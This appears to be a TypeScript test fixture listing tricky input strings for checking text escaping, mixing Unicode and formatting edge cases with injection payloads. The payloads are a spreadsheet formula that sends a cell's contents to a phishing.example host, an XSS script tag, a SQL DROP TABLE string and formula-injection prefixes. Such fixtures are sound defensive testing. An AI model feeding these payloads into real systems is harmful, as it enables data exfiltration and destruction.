/** Texts that careless readers trip over: formulas, markup, quotes, other scripts, emoji, line breaks. */
export const hostileTexts = [
  '=HYPERLINK("https://phishing.example/?q="&A1,"Open invoice")',
  '<script>alert("sample")</script>',
  "Robert'); DROP TABLE event;--",
  '+1+1',
  '@SUM(A1:A9)',
  '-2+3+cmd',
  'Café Zoë & Söhne',
  '請求書の確認',
  'Счёт № 42',
  'فاتورة ٤٢',
  'Party 🎉 budget 👩‍💻',
  'first line\nsecond line\tafter a tab',
  'a "quoted" name, with commas; and \'single\' ones',
  '<b>bold</b> &amp; already escaped',
  ']]> ends a CDATA section',
] as const;
